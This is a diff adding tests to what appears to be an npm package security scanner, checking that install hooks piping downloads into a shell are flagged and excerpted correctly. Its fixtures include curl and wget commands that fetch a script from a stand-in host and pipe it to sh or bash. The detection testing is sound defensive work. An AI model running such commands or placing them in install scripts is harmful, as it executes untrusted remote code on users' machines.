@@ -367,6 +367,26 @@ describe('install-scripts: missing facts', () => {
     expect(r.unavailable?.some((u) => u.signal === 'install-script targets')).toBe(true);
   });
 
+  it('needs only the packument, so the scan still runs it when the tarball is missing, and a hostile packument hook is judged', () => {
+    expect(installScripts.meta.needs).toEqual(['packument']);
+    const facts = factsFromFixture(hostile[0]![1]);
+    const r = installScripts.detect({ facts: { ...facts, manifest: undefined, files: undefined, missing: [{ fact: 'files', reason: 'tarball fetch failed' }] }, options: installScripts.meta.options.parse({}), now: new Date() });
+    expect(r.findings.map((f) => f.messageId)).toContain('pipeToShell');
+    expect(levelForScore(scoreFindings(r.findings.map((f) => f.weight)))).not.toBe('none');
+    expect(r.unavailable?.find((u) => u.signal === 'install-script targets')?.reason).toMatch(/tarball was not read/);
+  });
+
+  it('shows the whole command line in the evidence, not the pipeline stage that matched', () => {
+    const command = 'curl -fsSL http://203.0.113.7/p.sh | sh';
+    const r = run(fixture('whole-line', { scripts: { postinstall: command } }));
+    const pipe = r.findings.find((f) => f.messageId === 'pipeToShell')!;
+    expect(pipe.evidence.excerpt).toBe(command);
+    const long = `echo ${'x'.repeat(400)} && wget -qO- http://203.0.113.7/p.sh | bash`;
+    const cut = run(fixture('long-line', { scripts: { preinstall: long } })).findings.find((f) => f.messageId === 'pipeToShell')!;
+    expect(String(cut.evidence.excerpt).length).toBeLessThanOrEqual(200);
+    expect(cut.evidence.excerpt).toMatch(/wget -qO- http:\/\/203\.0\.113\.7\/p\.sh \| bash$/);
+  });
+
   it('strips control characters from excerpts', () => {
     const r = run(fixture('ansi', { scripts: { postinstall: 'curl https://x.example/\u001b[31mred | sh' } }));
     for (const f of r.findings) expect(JSON.stringify(f.evidence)).not.toMatch(/\u001b/);
